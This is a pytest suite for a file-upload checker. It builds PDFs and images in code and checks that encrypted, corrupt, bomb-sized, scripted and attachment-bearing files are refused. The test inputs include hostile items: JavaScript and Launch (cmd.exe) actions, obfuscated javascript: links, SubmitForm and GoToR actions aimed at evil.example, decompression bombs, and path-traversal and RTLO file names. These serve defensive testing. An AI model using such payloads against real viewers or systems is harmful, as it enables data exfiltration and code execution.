"""Upload checks on real files built here: renamed, encrypted, truncated, scripted, bombs, corrupt."""

from __future__ import annotations

import io
import os
import zlib

import pytest
from fpdf import FPDF
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from flows.uploads.checks import MAX_PIXELS, CheckedFile, FileRefused, check_upload, safe_filename, sniff_type

MB = 1024 * 1024
PDF_ONLY = ("pdf",)
ANY = ("pdf", "jpeg", "png")


# ---------------------------------------------------------------------------------------------
# File makers


def fpdf_pdf(pages: int = 1) -> bytes:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=12)
    for n in range(pages):
        pdf.add_page()
        pdf.cell(text=f"Page {n + 1}")
    return bytes(pdf.output())


def jpeg_bytes(size: tuple[int, int] = (320, 240)) -> bytes:
    image = Image.effect_noise(size, 64).convert("RGB")
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


def png_bytes(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def writer_pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def blank_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A classic PDF (xref table) whose object n is objects[n - 1]; object 1 must be the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref,
    )
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def object_stream_pdf(catalog: bytes) -> bytes:
    """A PDF 1.5 whose catalog, page tree and page sit in a compressed object stream (obj 4)."""
    bodies = [catalog, PAGES, PAGE]
    header = b""
    payload = b""
    for number, body in enumerate(bodies, start=1):
        header += b"%d %d " % (number, len(payload))
        payload += body + b"\n"
    content = zlib.compress(header + payload)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    out += (
        b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(content))
    )
    out += content + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0: free
    for index in range(3):  # objects 1-3: compressed in object stream 4
        rows += b"\x02" + (4).to_bytes(4, "big") + index.to_bytes(2, "big")
    rows += b"\x01" + objstm_offset.to_bytes(4, "big") + b"\x00\x00"
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00"
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    )
    out += rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def refusal(data: bytes, filename: str, allowed: tuple[str, ...] = ANY, max_bytes: int = 20 * MB) -> str:
    with pytest.raises(FileRefused) as caught:
        check_upload(data, filename, allowed=allowed, max_bytes=max_bytes)
    return caught.value.message


# ---------------------------------------------------------------------------------------------
# Accepted files


def test_fpdf_pdf_with_destination_open_action_passes() -> None:
    data = fpdf_pdf(pages=3)
    assert b"/OpenAction" in data  # fpdf2's [page /FitH null]: a destination, not an action
    checked = check_upload(data, "申请书.pdf", allowed=PDF_ONLY, max_bytes=5 * MB)
    assert checked.file_type == "pdf"
    assert checked.mime == "application/pdf"
    assert checked.pages == 3
    assert checked.width is None and checked.height is None
    assert checked.size == len(data)
    assert len(checked.sha256) == 64
    assert checked.describe().startswith("PDF，3页，")


def test_pdf_with_uri_link_passes() -> None:
    writer = blank_writer()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 99, 99)]),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://gov.cn")}
            ),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    assert check_upload(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 1


def test_object_stream_pdf_without_script_passes() -> None:
    data = object_stream_pdf(b"<< /Type /Catalog /Pages 2 0 R >>")
    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 1


def test_pdf_header_after_junk_is_found() -> None:
    data = b"\x00" * 100 + fpdf_pdf()
    assert sniff_type(data) == "pdf"


def test_png_passes_with_dimensions() -> None:
    checked = check_upload(png_bytes((64, 48)), "照片.PNG", allowed=("png", "jpeg"), max_bytes=MB)
    assert (checked.file_type, checked.mime, checked.width, checked.height) == ("png", "image/png", 64, 48)
    assert checked.pages is None
    assert checked.describe().startswith("PNG 图片，64×48像素，")


def test_jpeg_passes_with_any_jpeg_extension() -> None:
    data = jpeg_bytes()
    for name in ("a.jpg", "a.JPEG", "a.jfif"):
        checked = check_upload(data, name, allowed=("jpeg",), max_bytes=MB)
        assert (checked.file_type, checked.mime) == ("jpeg", "image/jpeg")
        assert (checked.width, checked.height) == (320, 240)


def test_describe_sizes() -> None:
    pdf = CheckedFile("pdf", "application/pdf", 1_300_000, 3, None, None, "x")
    assert pdf.describe() == "PDF，3页，1.2 MB"
    assert CheckedFile("jpeg", "image/jpeg", 350 * 1024, None, 10, 20, "x").describe() == (
        "JPEG 图片，10×20像素，350 KB"
    )


# ---------------------------------------------------------------------------------------------
# Size and type


def test_empty_file_refused() -> None:
    assert "空的" in refusal(b"", "a.pdf")


def test_oversize_refused_with_both_sizes() -> None:
    message = refusal(b"%PDF-" + b"0" * (MB + 200_000), "a.pdf", max_bytes=MB)
    assert "文件大小为 1.2 MB，超过本项材料 1 MB 的上限" in message


def test_unknown_format_refused_with_hint() -> None:
    message = refusal(b"PK\x03\x04" + b"\x00" * 100, "申请书.docx", allowed=PDF_ONLY)
    assert "无法识别" in message and "另存为 PDF" in message


def test_jpeg_renamed_pdf_refused_even_when_jpeg_allowed() -> None:
    message = refusal(jpeg_bytes(), "营业执照.pdf", allowed=("pdf", "jpeg"))
    assert message == "该文件扩展名为 .pdf，但实际内容是 JPEG 图片。请上传真正的 PDF 文件，或直接按图片上传。"


def test_jpeg_renamed_pdf_refused_when_only_pdf_allowed() -> None:
    message = refusal(jpeg_bytes(), "营业执照.pdf", allowed=PDF_ONLY)
    assert ".pdf" in message and "JPEG 图片" in message and "只接受 PDF 文件" in message


def test_real_type_not_allowed_refused() -> None:
    message = refusal(png_bytes(), "a.png", allowed=PDF_ONLY)
    assert "PNG 图片" in message and "只接受 PDF 文件" in message


def test_pdf_with_image_extension_refused() -> None:
    message = refusal(fpdf_pdf(), "scan.jpg", allowed=ANY)
    assert "扩展名为 .jpg" in message and "PDF 文件" in message


def test_bad_allowed_is_a_programming_error() -> None:
    with pytest.raises(ValueError):
        check_upload(b"x", "a.gif", allowed=("gif",), max_bytes=MB)


# ---------------------------------------------------------------------------------------------
# Refused PDFs


def test_encrypted_pdf_with_user_password_refused() -> None:
    writer = blank_writer()
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    assert "加密" in refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)


def test_encrypted_pdf_with_empty_user_password_refused() -> None:
    writer = blank_writer()
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    message = refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)
    assert message == "文件已加密（设有密码），审核人员无法打开。请取消密码后重新上传。"


def test_aes256_encrypted_pdf_refused() -> None:
    encrypt = (
        b"<< /Filter /Standard /V 5 /R 6 /Length 256 /P -1028"
        b" /O <" + b"11" * 48 + b"> /U <" + b"22" * 48 + b">"
        b" /OE <" + b"33" * 32 + b"> /UE <" + b"44" * 32 + b"> /Perms <" + b"55" * 16 + b"> >>"
    )
    data = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, encrypt],
        trailer_extra=b"/Encrypt 4 0 R /ID [<" + b"66" * 16 + b"> <" + b"66" * 16 + b">]",
    )
    assert "加密" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_truncated_pdf_refused() -> None:
    data = fpdf_pdf(pages=2)
    message = refusal(data[: len(data) // 2], "a.pdf", allowed=PDF_ONLY)
    assert "损坏或不完整" in message


def test_zero_page_pdf_refused() -> None:
    data = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    assert "没有任何页面" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_garbage_stream_refused() -> None:
    garbage = b"this is not a zlib stream at all!!!!!!!!"
    content = b"<< /Length 40 /Filter /FlateDecode >>\nstream\n" + garbage + b"\nendstream"
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            content,
        ]
    )
    assert "损坏" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_flate_bomb_refused() -> None:
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * MB
    bomb = b"".join(compressor.compress(chunk) for _ in range(100)) + compressor.flush()
    assert len(bomb) < 200_000
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream,
        ]
    )
    assert "过于庞大" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def long_pdf(contents: list[bytes]) -> bytes:
    """One page per content stream (each flate-compressed as given), all on one page tree."""
    pages = len(contents)
    kids = b" ".join(b"%d 0 R" % (3 + 2 * i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)]
    for i, content in enumerate(contents):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (4 + 2 * i))
        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream")
    return raw_pdf(objects)


def noise_pages(pages: int) -> list[bytes]:
    """Compressed content that does not shrink: `pages` x 8 KB."""
    return [zlib.compress(os.urandom(8 * 1024)) for _ in range(pages)]


def test_long_pdf_with_megabytes_of_compressed_pages_passes() -> None:
    # 300 pages, each with its own flate stream: every stream decoded in pypdf's limits, every page counted.
    data = long_pdf(noise_pages(300))
    assert len(data) > 2 * MB
    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=10 * MB).pages == 300


@pytest.mark.parametrize("where", [0, 1, 299])  # first, second or last page
def test_garbage_stream_among_megabytes_of_pages_refused(where: int) -> None:
    contents = noise_pages(300)
    contents[where] = b"x\x9c" + os.urandom(4000)  # a zlib header, then garbage
    assert "损坏" in refusal(long_pdf(contents), "a.pdf", allowed=PDF_ONLY, max_bytes=10 * MB)


def test_flate_bomb_spread_over_many_pages_refused() -> None:
    # 260 pages of 2 MB of zeros each (about 2 KB compressed): 520 MB decoded in all, over the limit,
    # though no one stream is. Noise pages of ordinary-looking data come after them.
    zeros = zlib.compress(b"\x00" * (2 * MB), 9)
    data = long_pdf([zeros] * 260 + noise_pages(30))  # 290 pages: under the page cap
    assert "过于庞大" in refusal(data, "a.pdf", allowed=PDF_ONLY, max_bytes=10 * MB)


def test_open_action_javascript_refused() -> None:
    writer = blank_writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    assert "脚本" in refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)


def test_open_action_go_to_dictionary_passes() -> None:
    # What LaTeX hyperref writes: moving to a page when the file opens is harmless.
    data = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
         b"<< /S /GoTo /D [3 0 R /Fit] >>"]
    )
    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 1


def test_open_action_other_dictionary_refused() -> None:
    data = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://x.example) >> >>", PAGES, PAGE]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_go_to_open_action_chaining_javascript_refused() -> None:
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>",
            PAGES,
            PAGE,
            b"<< /S /JavaScript /JS 5 0 R >>",
            b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        ]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_javascript_in_compressed_object_stream_refused() -> None:
    data = object_stream_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    )
    assert b"JavaScript" not in data  # a byte search would miss it
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_javascript_name_tree_with_escaped_name_refused() -> None:
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
            PAGES,
            PAGE,
            b"<< /Names [(a) << /S /JavaScript /J#53 (app.alert\\(1\\)) >>] >>",
        ]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_launch_action_in_annotation_refused() -> None:
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>",
        ]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_page_additional_actions_refused() -> None:
    writer = blank_writer()
    go_to = DictionaryObject({NameObject("/S"): NameObject("/GoTo")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): go_to})
    assert "脚本" in refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)


def test_catalog_additional_actions_refused() -> None:
    data = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >> >>",
                    PAGES, PAGE])
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


ATTACHED = "文件中含有附件或可执行内容，出于安全原因不能接收。请另存为（或打印成）普通 PDF 后重新上传。"
BAD_LINK = "不安全的链接"
EXTERNAL = "向外提交数据或打开其他文件"
XFA = "XFA 表单"


def annotated_pdf(annotation: bytes, *extra: bytes) -> bytes:
    """A one-page PDF whose page carries `annotation` (object 4); `extra` objects are 5, 6, ..."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            annotation,
            *extra,
        ]
    )


def link_with_action(action: DictionaryObject) -> bytes:
    writer = blank_writer()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 99, 99)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return writer_pdf(writer)


def uri_action(uri: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(uri)})


def test_attached_program_refused() -> None:
    writer = blank_writer()
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\0" * 200)
    assert refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY) == ATTACHED


def test_attached_program_in_object_stream_refused() -> None:
    # The catalog is inside a compressed object stream: read by pypdf, not by the fast reader.
    data = object_stream_pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [] >> >> >>")
    assert b"EmbeddedFiles" not in data
    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED


def test_embedded_file_stream_alone_refused() -> None:
    # Not referenced from anywhere: every object is checked, not only what the page tree reaches.
    payload = b"MZ\x90\x00 program"
    stream = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream"
    data = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, stream])
    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED


def test_file_attachment_annotation_refused() -> None:
    data = annotated_pdf(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (invoice.pdf.exe) /EF << /F 6 0 R >> >>",
        b"<< /Length 2 >>\nstream\nMZ\nendstream",
    )
    assert refusal(data, "a.pdf", allowed=PDF_ONLY) == ATTACHED


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:alert(1)",
        "JavaScript:app.alert(1)",
        "  \x01\x02javascript:alert(1)",
        "java\tscr\nipt:alert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "file:///C:/Windows/System32/cmd.exe",
        "FILE://server/share/setup.exe",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "\\\\evil.example\\share\\setup.exe",
        "C:\\Windows\\notepad.exe",
        "../../setup.exe",
    ],
)
def test_link_to_script_or_local_file_refused(uri: str) -> None:
    assert BAD_LINK in refusal(link_with_action(uri_action(uri)), "a.pdf", allowed=PDF_ONLY)


def test_javascript_link_written_by_fpdf_refused() -> None:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(0, 10, "click", link="javascript:alert(1)")
    assert BAD_LINK in refusal(bytes(pdf.output()), "a.pdf", allowed=PDF_ONLY)


def test_javascript_link_as_utf16_hex_string_refused() -> None:
    uri = "javascript:alert(1)".encode("utf-16-be").hex().encode()
    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <FEFF" + uri + b"> >> >>")
    assert BAD_LINK in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_javascript_link_with_escaped_literal_string_refused() -> None:
    # \152 is "j" in octal; a backslash-newline inside a string is nothing.
    data = annotated_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (\\152ava\\\nscript:x\\(1\\)) >> >>"
    )
    assert BAD_LINK in refusal(data, "a.pdf", allowed=PDF_ONLY)


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C /N (a) >> >>",
    ],
)
def test_actions_sending_data_or_opening_other_files_refused(action: bytes) -> None:
    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>")
    assert EXTERNAL in refusal(data, "a.pdf", allowed=PDF_ONLY)


@pytest.mark.parametrize("kind", [b"/RichMediaExecute", b"/Rendition", b"/Sound", b"/Movie", b"/JavaScript", b"/Launch"])
def test_actions_running_content_refused(kind: bytes) -> None:
    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S " + kind + b" >> >>")
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_action_type_given_by_reference_refused() -> None:
    data = annotated_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R >> >>", b"/SubmitForm")
    assert EXTERNAL in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_submit_form_from_pypdf_writer_refused() -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example")}
    )
    assert EXTERNAL in refusal(link_with_action(action), "a.pdf", allowed=PDF_ONLY)


def test_xfa_form_refused() -> None:
    writer = blank_writer()
    xfa = writer._add_object(DictionaryObject())  # the packet's content does not matter
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
    )
    assert XFA in refusal(writer_pdf(writer), "a.pdf", allowed=PDF_ONLY)


def test_indirect_open_action_uri_refused_as_direct_one() -> None:
    data = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, b"<< /S /URI /URI (https://x.example) >>"]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_nul_after_a_name_does_not_hide_it() -> None:
    # NUL is white space in PDF: a viewer reads the key /JS here.
    data = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /Names << /JS\x00(app.alert\\(1\\)) >> >>", PAGES, PAGE]
    )
    assert "脚本" in refusal(data, "a.pdf", allowed=PDF_ONLY)


def test_ordinary_pdf_with_https_link_mailto_and_outline_passes() -> None:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    writer.add_outline_item(title="第一章", page_number=0)
    writer.add_outline_item(title="第三章", page_number=2)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 99, 99)]),
            NameObject("/A"): uri_action("  HTTPS://www.mps.gov.cn/n2254314/index.html"),
        }
    )
    mail = DictionaryObject(link)
    mail[NameObject("/A")] = uri_action("mailto:baoan@example.gov.cn")
    go_to = DictionaryObject(link)
    go_to[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject([writer.pages[1].indirect_reference,
                                                                                NameObject("/Fit")])}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [writer._add_object(link), writer._add_object(mail), writer._add_object(go_to)]
    )
    data = writer_pdf(writer)
    assert b"/Outlines" in data
    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 3


def test_indirect_length_predictor_and_off_by_one_length_streams_pass() -> None:
    # Streams the fast reader hands to pypdf: a PNG-predictor flate stream, a /Length one byte too long.
    rows = b"".join(b"\x00" + bytes(range(8)) for _ in range(4))
    predicted = zlib.compress(rows)
    content = zlib.compress(b"BT ET")
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 6 0 R] >>",
            b"<< /Length 5 0 R /Filter /FlateDecode >>\nstream\n" + content + b"\nendstream",
            b"%d" % len(content),
            b"<< /Length %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >> >>\nstream\n"
            % len(predicted) + predicted + b"\nendstream",
            b"<< /Length 7 >>\nstream\nBT ET\nendstream",
        ]
    )
    assert check_upload(data, "a.pdf", allowed=PDF_ONLY, max_bytes=MB).pages == 1


def test_garbage_stream_with_indirect_length_refused() -> None:
    garbage = b"this is not a zlib stream at all!!!!!!!!"
    data = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length 5 0 R /Filter [/FlateDecode] >>\nstream\n" + garbage + b"\nendstream",
            b"%d" % len(garbage),
        ]
    )
    assert "损坏" in refusal(data, "a.pdf", allowed=PDF_ONLY)


# ---------------------------------------------------------------------------------------------
# Refused images


def test_truncated_jpeg_refused() -> None:
    data = jpeg_bytes((640, 480))
    message = refusal(data[: int(len(data) * 0.6)], "a.jpg", allowed=("jpeg",))
    assert "图片已损坏或不完整" in message


def test_png_with_garbage_data_refused() -> None:
    out = io.BytesIO()
    Image.effect_noise((200, 200), 64).save(out, "PNG")
    data = bytearray(out.getvalue())
    middle = len(data) // 2
    data[middle : middle + 200] = bytes(range(200))  # inside IDAT: the zlib data is now wrong
    assert "损坏" in refusal(bytes(data), "a.png", allowed=("png",))


def test_huge_pixel_png_refused() -> None:
    data = png_bytes((10_000, 5_000), mode="1")
    assert 10_000 * 5_000 > MAX_PIXELS
    assert len(data) < MB
    assert "图片像素过大" in refusal(data, "a.png", allowed=("png",))


# ---------------------------------------------------------------------------------------------
# File names


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\张三\\营业执照.pdf", "营业执照.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("a\u2066b\u2069c.pdf", "abc.pdf"),
        ("a\x00b\x1fc\n.jpg", "abc.jpg"),
        ("..", "file"),
        ("", "file"),
        ("/", "file"),
        (".pdf", "file.pdf"),
        ("  报告 .pdf ", "报告.pdf"),
        ("a:b?.png", "a_b_.png"),
    ],
)
def test_safe_filename(given: str, expected: str) -> None:
    assert safe_filename(given) == expected


def test_safe_filename_keeps_extension_when_shortened() -> None:
    name = safe_filename("很长" * 200 + ".pdf")
    assert len(name) == 100
    assert name.endswith(".pdf")


@pytest.mark.parametrize(("size", "shown"), [(500, "500 字节"), (8_900, "9 KB"), (9_000, "9 KB"),
                                             (int(1.5 * 1024 * 1024), "1.5 MB")])
def test_a_files_size_is_shown_with_one_rounding_on_every_page(size: int, shown: str) -> None:
    """A review saw one file as 8 KB in the conversation and 9 KB in its check: the pages now share one rounding."""
    from flows.uploads import checks
    from ui import conversation, preview

    assert checks.human_size(size) == shown
    assert conversation.human_size is preview.human_size is checks.human_size
